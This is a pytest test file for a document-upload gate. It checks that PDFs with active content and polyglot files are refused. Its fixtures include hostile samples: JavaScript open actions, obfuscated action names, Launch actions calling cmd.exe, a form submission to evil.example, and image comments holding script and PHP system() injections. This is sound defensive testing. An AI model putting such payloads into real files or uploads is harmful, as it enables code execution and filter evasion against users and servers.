"""PDFs at the gate, and files that are two things at once."""

import pytest

from reports.domain.refusal import Refused
from tests.readers import office, printed
from tests.readers.gate import code, taken
from tests.readers.hostile import docx, gathered, image, pdf

TEXT = "申请公开的政府信息".encode()


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (pdf("<</S/JavaScript/JS(app.alert(1))>>", catalog="/OpenAction 4 0 R"), "script"),
        (pdf("<</S/JavaScript/JS(app.alert(1))>>"), "script"),
        (pdf(catalog="/OpenAction<</S/J#61vaScript/JS(1)>>"), "script"),
        (pdf(catalog="/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>"), "script"),
        (pdf(page="/AA<</O<</S/JavaScript/JS(1)>>>>"), "script"),
        (pdf(streams=(gathered("<</S/JavaScript/JS(app.alert(1))>>"),)), "script"),
        (pdf(streams=(gathered("<</S/Launch/F(cmd.exe)>>"),)), "launch"),
        (pdf(catalog="/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>"), "launch"),
        (pdf("<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream"), "files"),
        (pdf("<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"), "files"),
        (pdf(page="/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 1 1]>>]"), "files"),
        (pdf(page="/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 1 1]>>]"), "media"),
        (pdf(catalog="/AcroForm<</Fields[]/XFA(x)>>"), "form"),
        (
            pdf(page="/Annots[<</Subtype/Link/Rect[0 0 1 1]/A<</S/SubmitForm/F(http://evil.example)>>>>]"),
            "form",
        ),
    ],
)
def test_a_pdf_that_acts_is_refused(data, what):
    with pytest.raises(Refused, match="acting") as refused:
        taken("a.pdf", data)
    assert refused.value.values["what"] == what


def test_what_ordinary_pdfs_do_is_no_fault():
    link = "/Annots[<</Subtype/Link/Rect[0 0 1 1]/A<</S/URI/URI(https://www.gov.cn/)>>>>]"
    assert code("a.pdf", pdf(catalog="/OpenAction[3 0 R/Fit]", page=link)) == ""
    assert code("a.pdf", pdf(page="/AA<</O<</S/Named/N/NextPage>>>>")) == ""


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("a.pdf", pdf() + docx(), "mixed"),
        ("a.jpg", image() + docx(), "mixed"),
        ("a.png", image("PNG") + office.packed({"A.class": "x"}), "mixed"),
        ("a.png", image("PNG") + b"Rar!\x1a\x07\x00", "mixed"),
        ("a.jpg", image(comment=b"<script>alert(1)</script>"), "mixed"),
        ("a.jpg", image(comment=b"<?php system(1);"), "mixed"),
        ("a.jpg", image(comment=b"%PDF-1.7"), "mixed"),
        ("a.pdf", b"%PDF-1.7\n<html><script>" + pdf()[9:], "mixed"),
        ("a.txt", b"text\n%PDF-1.4\n" + pdf(), "mixed"),
        ("a.txt", TEXT + docx(), "unknown"),
        ("a.gif", b"GIF89a/*" + docx(), "kind"),
        ("a.docx", b"GIF89a" + docx(), "kind"),
        ("a.docx", docx() + pdf(), "mixed"),
    ],
)
def test_what_is_two_things_at_once_is_refused(name, data, why):
    assert code(name, data) == why


def test_a_locked_pdf_and_broken_ones_are_refused():
    assert code("a.pdf", printed.printed("公开", password="geheim")) == "locked"
    assert code("a.pdf", b"%PDF-1.7\n" + b"x" * 999) == "damaged"
